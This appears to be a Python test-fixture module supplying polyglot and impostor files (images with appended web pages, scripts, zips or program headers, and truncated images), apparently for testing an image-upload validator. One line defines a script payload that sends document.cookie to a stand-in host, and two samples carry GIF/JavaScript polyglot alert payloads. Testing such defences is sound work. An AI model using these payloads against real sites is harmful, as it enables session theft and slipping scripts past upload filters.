"""Files that are two things at once, or less than one."""

from __future__ import annotations

from tests.fakes import lottie, pictures

RED_PNG, RED_GIF, RED_JPEG = (pictures.RED_FILES[kind] for kind in ("png", "gif", "jpeg"))
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"

POLYGLOTS: dict[str, bytes] = {
    "a png and then a web page": RED_PNG + b"<html>" + SCRIPT,
    "a png and then a zip": RED_PNG + pictures.NO_PICTURES["a zip"],
    "a gif and then a script": RED_GIF + b"*/=1;alert(1)//",
    "a jpeg and then a program": RED_JPEG + b"\x7fELF" + bytes(500),
    "a jpeg and then a png": RED_JPEG + RED_PNG,
}
"""All of them are read as the red picture they begin with; nothing else of them gets through."""

IMPOSTORS: dict[str, bytes] = {
    **pictures.NO_PICTURES,
    "a web page with a png in it": b"<!DOCTYPE html>" + SCRIPT + RED_PNG,
    "a pdf with a png in it": b"%PDF-1.7\n1 0 obj\n" + RED_PNG,
    "a script that begins like a gif": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1);",
    "a program": b"\x7fELF" + bytes(2000),
    "json": b'{"error": "not found"}',
}


def truncated() -> dict[str, bytes]:
    """Every format, cut after a quarter: before any whole frame."""
    files = pictures.RED_FILES | {"lottie": lottie.STICKER}
    return {f"a quarter of {kind}": content[: len(content) // 4] for kind, content in files.items()}


def mostly_there() -> dict[str, bytes]:
    """Every format without its last bytes; what can be seen of them, browsers show."""
    files = pictures.RED_FILES | {"lottie": lottie.STICKER}
    return {f"most of {kind}": content[: -max(2, len(content) // 10)] for kind, content in files.items()}
